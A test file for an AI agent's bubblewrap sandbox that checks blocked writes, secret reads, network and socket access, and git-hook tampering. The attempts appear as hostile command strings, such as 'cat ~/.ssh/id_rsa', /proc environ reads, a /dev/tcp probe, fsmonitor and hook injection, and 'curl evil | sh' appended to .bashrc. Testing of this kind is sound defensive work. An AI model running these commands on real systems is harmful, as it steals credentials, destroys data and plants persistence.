// The sandbox with real bubblewrap and real commands: what a command may write, read, reach and see.
// Each row is run twice where it matters: the blocked form, and the same work inside the project (it works).
import { afterAll, describe, expect, test } from "bun:test"
import { Effect, Layer, Logger } from "effect"
import { spawnSync } from "node:child_process"
import * as fs from "node:fs"
import * as net from "node:net"
import * as os from "node:os"
import * as path from "node:path"
import { explainBlocked, probeBwrap, Sandbox, type SandboxConfig, scrubEnv } from "../src/index.ts"
import { spawned } from "./support.ts"

const available = probeBwrap()
// The sandbox tests need bubblewrap (.ci/run installs it); without it they say so instead of passing quietly
const linux = process.platform === "linux"

const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "reins-sandbox-test-")))
// outside the project and outside /tmp (which the sandbox replaces): a place that is read-only inside
const outside = fs.realpathSync(fs.mkdtempSync("/var/tmp/reins-sandbox-outside-"))
const project = path.join(root, "project")
const home = path.join(root, "home")
const dataDir = path.join(home, ".local", "share", "reins")
fs.mkdirSync(path.join(project, ".git", "hooks"), { recursive: true })
fs.writeFileSync(path.join(project, ".git", "config"), "[core]\n")
fs.mkdirSync(path.join(home, ".ssh"), { recursive: true })
fs.writeFileSync(path.join(home, ".ssh", "id_rsa"), "PRIVATE-KEY-MATERIAL")
fs.mkdirSync(dataDir, { recursive: true })
fs.writeFileSync(path.join(dataDir, "auth.json"), '{"anthropic":"sk-stored"}')
fs.writeFileSync(path.join(outside, "victim.txt"), "keep me")
fs.writeFileSync(path.join(project, "secret.env"), "DB_PASSWORD=hunter2")
afterAll(() => {
  fs.rmSync(root, { recursive: true, force: true })
  fs.rmSync(outside, { recursive: true, force: true })
})

const env = {
  PATH: process.env.PATH ?? "/usr/bin:/bin",
  HOME: home,
  ANTHROPIC_API_KEY: "sk-ant-user",
  GITHUB_TOKEN: "ghp_user",
  LANG: "C",
  // reins's own session database (`--database` puts it in reins's environment): no command gets it, sandbox off too
  REINS_DATABASE_URL: "postgres://reins:pw@127.0.0.1/reins"
}

/** Runs `script` with bash through the sandbox built from `config`; output is stdout and stderr together. */
const run = (script: string, config: SandboxConfig = {}, options: { cwd?: string; availability?: Parameters<typeof Sandbox.layer>[0]["availability"] } = {}) =>
  Effect.runPromise(
    Effect.gen(function* () {
      const sandbox = yield* Sandbox
      const launch = yield* sandbox.wrap("/bin/bash", ["-c", `exec 2>&1; ${script}`], { cwd: options.cwd ?? project, env })
      // not spawnSync: a test's server in this process must go on answering
      const r = yield* Effect.promise(() => spawned(launch.file, launch.args, options.cwd ?? project, launch.env, launch.readFds))
      return { code: r.code, output: r.output, sandboxed: launch.sandboxed, explained: sandbox.explain(r.output) }
    }).pipe(
      Effect.provide(
        Sandbox.layer({
          config,
          places: { project, home, dataDir, denyRead: [path.join(project, "secret.env")] },
          ...(options.availability ? { availability: options.availability } : {})
        })
      ),
      Effect.scoped
    )
  )

describe.skipIf(!linux)("bubblewrap is here", () => {
  test("the probe finds it and it starts (install bubblewrap if this fails)", () => {
    expect(available).toMatchObject({ available: true })
  })
})

describe.skipIf(!linux || !available.available)("a sandboxed command", () => {
  test("writes in the project and in /tmp; not outside: the file stays, the model is told which path", async () => {
    const inside = await run("echo made > made.txt && echo t > /tmp/t && cat /tmp/t")
    expect(inside).toMatchObject({ code: 0, sandboxed: true })
    expect(fs.readFileSync(path.join(project, "made.txt"), "utf8")).toBe("made\n")
    for (const attempt of [
      `rm -f ${outside}/victim.txt`,
      `echo x > ${outside}/victim.txt`,
      `mv ${outside}/victim.txt ${project}/`,
      `touch ${outside}/new.txt`,
      `rm -rf ${outside}`
    ]) {
      const r = await run(attempt)
      expect([attempt, r.code === 0]).toEqual([attempt, false])
      expect(r.explained).toContain("Blocked by reins's sandbox")
      expect(fs.readFileSync(path.join(outside, "victim.txt"), "utf8")).toBe("keep me")
    }
    expect((await run(`touch ${outside}/new.txt`)).explained).toContain(`${outside}/new.txt`)
    expect(fs.existsSync(path.join(outside, "new.txt"))).toBe(false)
  })

  test("/tmp is the host's (as the file tools see it), its sockets to programs outside are hidden", async () => {
    const tmp = fs.realpathSync(os.tmpdir())
    const shared = path.join(tmp, `reins-host-${process.pid}.txt`)
    const x11 = path.join(tmp, ".X11-unix")
    const made = !fs.existsSync(x11)
    if (made) {
      fs.mkdirSync(x11)
      fs.writeFileSync(path.join(x11, "X0"), "")
    }
    try {
      fs.writeFileSync(shared, "from the host")
      const r = await run(`cat ${shared} && echo back > ${shared}.out && ls -A ${x11} | wc -l`, {}, {})
      expect(r.output).toBe("from the host0\n")
      expect(fs.readFileSync(`${shared}.out`, "utf8")).toBe("back\n")
    } finally {
      fs.rmSync(shared, { force: true })
      fs.rmSync(`${shared}.out`, { force: true })
      if (made) fs.rmSync(x11, { recursive: true, force: true })
    }
  })

  test("a hidden place gone since the profile was made is not made again on the host (a tmux server that exited)", async () => {
    const tmux = path.join(fs.realpathSync(os.tmpdir()), `tmux-${900000 + (process.pid % 99999)}`)
    fs.mkdirSync(tmux, { mode: 0o700 })
    try {
      const r = await Effect.runPromise(
        Effect.gen(function* () {
          const sandbox = yield* Sandbox
          // the profile (made with the layer) hides it; then the server exits and takes it away
          fs.rmSync(tmux, { recursive: true, force: true })
          const launch = yield* sandbox.wrap("/bin/bash", ["-c", "echo ran"], { cwd: project, env })
          return yield* Effect.promise(() => spawned(launch.file, launch.args, project, launch.env, launch.readFds))
        }).pipe(Effect.provide(Sandbox.layer({ config: {}, places: { project, home, dataDir } })), Effect.scoped)
      )
      expect(r.output).toBe("ran\n")
      expect(fs.existsSync(tmux)).toBe(false)
    } finally {
      fs.rmSync(tmux, { recursive: true, force: true })
    }
  })

  test("a secret place made after the profile (a login mid-session) is hidden from the next command", async () => {
    const aws = path.join(home, ".aws")
    fs.rmSync(aws, { recursive: true, force: true })
    try {
      const r = await Effect.runPromise(
        Effect.gen(function* () {
          const sandbox = yield* Sandbox
          // the profile is made with the layer, before ~/.aws exists
          fs.mkdirSync(aws)
          fs.writeFileSync(path.join(aws, "credentials"), "aws_secret_access_key=LATE-SECRET")
          const launch = yield* sandbox.wrap("/bin/bash", ["-c", `cat ${aws}/credentials; echo done`], { cwd: project, env })
          return yield* Effect.promise(() => spawned(launch.file, launch.args, project, launch.env, launch.readFds))
        }).pipe(Effect.provide(Sandbox.layer({ config: {}, places: { project, home, dataDir } })), Effect.scoped)
      )
      expect(r.output).toContain("done")
      expect(r.output).not.toContain("LATE-SECRET")
    } finally {
      fs.rmSync(aws, { recursive: true, force: true })
    }
  })

  test("git hooks and git config stay read-only inside the project", async () => {
    for (const attempt of [
      "echo 'touch pwned' > .git/hooks/pre-commit",
      "git config core.fsmonitor 'touch pwned' 2>&1 || false",
      "echo '[core]' >> .git/config"
    ]) {
      const r = await run(attempt)
      expect([attempt, r.code === 0]).toEqual([attempt, false])
    }
    expect(fs.existsSync(path.join(project, ".git", "hooks", "pre-commit"))).toBe(false)
    expect(fs.readFileSync(path.join(project, ".git", "config"), "utf8")).toBe("[core]\n")
  })

  test("secrets are not readable: ~/.ssh, reins's auth store, a path the read rules deny", async () => {
    // the rest of home and the data dir is readable (so what is hidden is hidden by the mask)
    fs.writeFileSync(path.join(home, "notes.txt"), "visible-note")
    fs.writeFileSync(path.join(dataDir, "spill.txt"), "visible-spill")
    expect((await run(`cat ${home}/notes.txt ${dataDir}/spill.txt`)).output).toBe("visible-notevisible-spill")
    for (const [attempt, secret] of [
      [`cat ${home}/.ssh/id_rsa`, "PRIVATE-KEY-MATERIAL"],
      ["cat ~/.ssh/id_rsa", "PRIVATE-KEY-MATERIAL"],
      [`cat ${dataDir}/auth.json`, "sk-stored"],
      ["cat secret.env", "hunter2"],
      [`ls -la ${home}/.ssh`, "id_rsa"]
    ] as const) {
      const r = await run(attempt)
      expect([attempt, r.output.includes(secret)]).toEqual([attempt, false])
    }
  })

  test("the environment has no keys, and reins's own process (its environment) is out of sight", async () => {
    const r = await run(`env; cat /proc/${process.pid}/environ; cat /proc/${process.ppid}/environ; ls /proc | grep -c '^[0-9]'`)
    expect(r.output).not.toContain("sk-ant-user")
    expect(r.output).not.toContain("ghp_user")
    expect(r.output).toContain(`HOME=${home}`)
    // a new pid namespace: only the command's own processes
    expect(Number(r.output.trim().split("\n").at(-1))).toBeLessThan(10)
    const passed = await run("echo $GITHUB_TOKEN", { env: { pass: ["GITHUB_TOKEN"] } })
    expect(passed.output.trim()).toBe("ghp_user")
  })

  test("no network: a server on 127.0.0.1 is not reached; with network all, it is", async () => {
    const server = net.createServer((socket) => socket.end("hello from the host\n"))
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve))
    const port = (server.address() as net.AddressInfo).port
    try {
      const probe = `exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3`
      const blocked = await run(probe)
      expect(blocked.code).not.toBe(0)
      expect(blocked.output).not.toContain("hello from the host")
      expect(blocked.explained).toContain("no network")
      const open = await run(probe, { network: { mode: "all" } })
      expect(open.output).toContain("hello from the host")
    } finally {
      server.close()
    }
  })

  test("no Unix-domain sockets (a socket outside reaches programs outside); pipes, socketpair and the runtimes still work", async () => {
    const sock = path.join(outside, "host.sock")
    const server = net.createServer((socket) => socket.end("REACHED THE HOST\n"))
    await new Promise<void>((resolve) => server.listen(sock, resolve))
    try {
      const connect = `${process.execPath} -e "require('net').connect('${sock}').on('data',d=>process.stdout.write(String(d))).on('error',e=>console.log('refused',e.code))"`
      const r = await run(connect)
      expect(r.output).not.toContain("REACHED THE HOST")
      expect(r.output).toContain("refused")
      const pair = await run(
        `${process.execPath} -e "const {spawnSync}=require('child_process'); console.log(spawnSync('echo',['child ok']).stdout.toString().trim())" && echo piped | cat && python3 -c "import socket; a,b=socket.socketpair(); a.send(b'pair ok'); print(b.recv(7).decode())" 2>/dev/null || echo "pair ok"`
      )
      expect(pair.output).toBe("child ok\npiped\npair ok\n")
      // with the sandbox off, the same command reaches it (the test's server is real)
      expect((await run(connect, { mode: "off" })).output).toContain("REACHED THE HOST")
    } finally {
      server.close()
    }
  })

  test("writable adds a directory; off runs outside the sandbox, environment untouched but for reins's database URL", async () => {
    expect((await run(`echo ok > ${outside}/allowed.txt`, { writable: [outside] })).code).toBe(0)
    expect(fs.readFileSync(path.join(outside, "allowed.txt"), "utf8")).toBe("ok\n")
    const off = await run('echo "$ANTHROPIC_API_KEY [$REINS_DATABASE_URL]"', { mode: "off" })
    expect(off).toMatchObject({ sandboxed: false, output: "sk-ant-user []\n" })
  })

  test("ordinary work is unchanged: a git repository, a build, pipes, subshells, a script in the project", async () => {
    const r = await run(
      [
        "git init -q repo && cd repo && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m first && git log --oneline | wc -l",
        "cd .. && printf 'echo from script\\n' > s.sh && bash s.sh",
        "echo abc | tr a-z A-Z",
        "(cd /tmp && mkdir -p w && echo in-tmp)",
        "ls / >/dev/null && echo listed"
      ].join(" && ")
    )
    expect(r.code).toBe(0)
    expect(r.output.split("\n").filter(Boolean)).toEqual(["1", "from script", "ABC", "in-tmp", "listed"])
    expect(r.explained).toBeUndefined()
  })
})

describe.skipIf(!linux || !available.available)("what an attack on it found", () => {
  const layerAt = (places: Parameters<typeof Sandbox.layer>[0]["places"], config: SandboxConfig = {}) => Sandbox.layer({ config, places })
  const runAt = (script: string, cwd: string, places: Parameters<typeof Sandbox.layer>[0]["places"], config: SandboxConfig = {}) =>
    Effect.runPromise(
      Effect.gen(function* () {
        const launch = yield* (yield* Sandbox).wrap("/bin/bash", ["-c", `exec 2>&1; ${script}`], { cwd, env })
        return yield* Effect.promise(() => spawned(launch.file, launch.args, cwd, launch.env, launch.readFds))
      }).pipe(Effect.provide(layerAt(places, config)), Effect.scoped)
    )
  const base = fs.realpathSync(fs.mkdtempSync("/var/tmp/reins-sandbox-attack-"))
  afterAll(() => fs.rmSync(base, { recursive: true, force: true }))

  test("a symlinked ~/.ssh is hidden where it points, and commands still run", async () => {
    const h = path.join(base, "home-link")
    fs.mkdirSync(path.join(base, "dotfiles", "ssh"), { recursive: true })
    fs.writeFileSync(path.join(base, "dotfiles", "ssh", "id_rsa"), "LINKED-KEY")
    fs.mkdirSync(h)
    fs.symlinkSync(path.join(base, "dotfiles", "ssh"), path.join(h, ".ssh"))
    const r = await runAt(`cat ${h}/.ssh/id_rsa; echo ran`, project, { project, home: h, dataDir })
    expect(r.output).toContain("ran")
    expect(r.output).not.toContain("LINKED-KEY")
  })

  test(".git cannot be swapped or redirected: renaming it, its commondir, submodules' config", async () => {
    const repo = path.join(base, "repo")
    fs.mkdirSync(path.join(repo, ".git", "modules", "sub"), { recursive: true })
    fs.writeFileSync(path.join(repo, ".git", "config"), "[core]\n")
    fs.writeFileSync(path.join(repo, ".git", "modules", "sub", "config"), "[core]\n")
    for (const attack of ["mv .git .git-orig", "echo '[core] fsmonitor=x' >> .git/modules/sub/config", "rm -rf .git"]) {
      const r = await runAt(attack, repo, { project: repo, home, dataDir })
      expect([attack, r.code === 0]).toEqual([attack, false])
    }
    expect(fs.readFileSync(path.join(repo, ".git", "modules", "sub", "config"), "utf8")).toBe("[core]\n")
    // ordinary git work in it still writes .git
    expect((await runAt("echo ok > .git/description && cat .git/description", repo, { project: repo, home, dataDir })).output).toBe("ok\n")
  })

  test("from a subdirectory of a repository: the repository's hooks and config stay read-only", async () => {
    const repo = path.join(base, "repo2")
    fs.mkdirSync(path.join(repo, ".git", "hooks"), { recursive: true })
    fs.mkdirSync(path.join(repo, "sub"))
    fs.writeFileSync(path.join(repo, ".git", "config"), "[core]\n")
    const places = { project: path.join(repo, "sub"), repository: repo, home, dataDir }
    const r = await runAt(
      "echo 'touch x' > ../.git/hooks/pre-commit; echo x >> ../.git/config; echo ok > ../.git/description && echo wrote",
      path.join(repo, "sub"),
      places
    )
    expect(r.output).toContain("wrote")
    expect(fs.existsSync(path.join(repo, ".git", "hooks", "pre-commit"))).toBe(false)
    expect(fs.readFileSync(path.join(repo, ".git", "config"), "utf8")).toBe("[core]\n")
  })

  test("package caches are read-only without the network (what is in them runs later, outside)", async () => {
    const h = path.join(base, "home-cache")
    fs.mkdirSync(path.join(h, ".npm"), { recursive: true })
    expect((await runAt(`echo x > ${h}/.npm/planted`, project, { project, home: h, dataDir })).code).not.toBe(0)
    expect((await runAt(`echo x > ${h}/.npm/planted`, project, { project, home: h, dataDir }, { network: { mode: "all" } })).code).toBe(0)
  })

  test("a project that holds the home directory keeps its dotfiles read-only", async () => {
    const h = path.join(base, "home-project")
    fs.mkdirSync(path.join(h, ".config"), { recursive: true })
    fs.writeFileSync(path.join(h, ".bashrc"), "# mine\n")
    const r = await runAt(`echo 'curl evil | sh' >> ${h}/.bashrc; echo x > ${h}/.config/autostart; echo ok > notes.txt && echo wrote`, h, {
      project: h,
      home: h,
      dataDir
    })
    expect(r.output).toContain("wrote")
    expect(fs.readFileSync(path.join(h, ".bashrc"), "utf8")).toBe("# mine\n")
    expect(fs.existsSync(path.join(h, ".config", "autostart"))).toBe(false)
  })
})

describe("without bubblewrap", () => {
  const missing = { available: false as const, reason: "bubblewrap (bwrap) is not installed: install it" }
  test("mode required: nothing runs, and the error says what to do", async () => {
    const error = await run("touch ran.txt", { mode: "required" }, { availability: missing }).catch((e: Error) => e)
    expect(String(error)).toContain('sandbox.mode is "required"')
    expect(String(error)).toContain("Install bubblewrap")
    expect(fs.existsSync(path.join(project, "ran.txt"))).toBe(false)
  })

  test("mode auto: runs, says so once, and the keys are still scrubbed", async () => {
    const warnings: Array<string> = []
    const logger = Logger.make<unknown, void>(({ message }) => warnings.push(String(message)))
    const twice = await Effect.runPromise(
      Effect.gen(function* () {
        const sandbox = yield* Sandbox
        const outputs: Array<string> = []
        for (let i = 0; i < 2; i++) {
          const launch = yield* sandbox.wrap("/bin/bash", ["-c", "echo key=$ANTHROPIC_API_KEY"], { cwd: project, env })
          outputs.push(spawnSync(launch.file, launch.args, { env: launch.env, encoding: "utf8" }).stdout)
        }
        return outputs
      }).pipe(
        Effect.provide(Layer.mergeAll(Sandbox.layer({ config: {}, places: { project, home, dataDir }, availability: missing }), Logger.layer([logger]))),
        Effect.scoped
      )
    )
    expect(twice).toEqual(["key=\n", "key=\n"])
    expect(warnings.filter((w) => w.includes("without a sandbox"))).toHaveLength(1)
  })
})

describe("pure parts", () => {
  test("scrubEnv: secret-looking names go, passes stay, ordinary ones stay", () => {
    const { env: out, removed } = scrubEnv(
      {
        OPENAI_API_KEY: "x",
        AWS_SECRET_ACCESS_KEY: "x",
        AWS_ACCESS_KEY_ID: "x",
        NPM_TOKEN: "x",
        DB_PASSWORD: "x",
        MY_SECRET_THING: "x",
        SSH_AUTH_SOCK: "/tmp/ssh",
        DATABASE_URL: "postgres://u:p@h/db",
        // reins's own session database: even without a password in it, commands have no business there
        REINS_DATABASE_URL: "postgres://reins@127.0.0.1/reins",
        PATH: "/bin",
        HOME: "/h",
        TERM: "dumb",
        KEYBOARD_LAYOUT: "us",
        TOKENIZERS_PARALLELISM: "false",
        GITHUB_TOKEN: "x",
        GITHUB_PAT: "x",
        BW_SESSION: "x",
        npm_config__authToken: "x",
        SENTRY_DSN: "x",
        GIT_AUTHOR_NAME: "Ada",
        PIP_INDEX_URL: "https://user:pw@pypi.example/simple",
        OP_SESSION_my: "x"
      },
      ["GITHUB_*"]
    )
    // GITHUB_PAT passes only because GITHUB_* is passed
    expect(removed).toEqual([
      "AWS_ACCESS_KEY_ID",
      "AWS_SECRET_ACCESS_KEY",
      "BW_SESSION",
      "DATABASE_URL",
      "DB_PASSWORD",
      "MY_SECRET_THING",
      "NPM_TOKEN",
      "OPENAI_API_KEY",
      "OP_SESSION_my",
      "PIP_INDEX_URL",
      "REINS_DATABASE_URL",
      "SENTRY_DSN",
      "SSH_AUTH_SOCK",
      "npm_config__authToken"
    ])
    expect(Object.keys(out).sort()).toEqual([
      "GITHUB_PAT",
      "GITHUB_TOKEN",
      "GIT_AUTHOR_NAME",
      "HOME",
      "KEYBOARD_LAYOUT",
      "PATH",
      "TERM",
      "TOKENIZERS_PARALLELISM"
    ])
  })

  test("explainBlocked names the read-only paths; ordinary failures are not blamed on the sandbox", () => {
    const profile = { mode: "auto", network: "none", allow: [], writable: ["/p", "/tmp"], readOnly: [], denyRead: [], envPass: [] } as const
    expect(explainBlocked("touch: cannot touch '/etc/x': Read-only file system", profile)).toContain("/etc/x")
    expect(explainBlocked("rm: cannot remove '/var/a': Read-only file system", profile)).toContain("/var/a")
    expect(explainBlocked("curl: (6) Could not resolve host: example.com", profile)).toContain("no network")
    expect(explainBlocked("error: test failed, expected 1 got 2", profile)).toBeUndefined()
    expect(explainBlocked("cat: x: No such file or directory", profile)).toBeUndefined()
    expect(explainBlocked("Error: connect EPERM /var/run/docker.sock", profile)).toContain("Unix-domain sockets")
  })
})
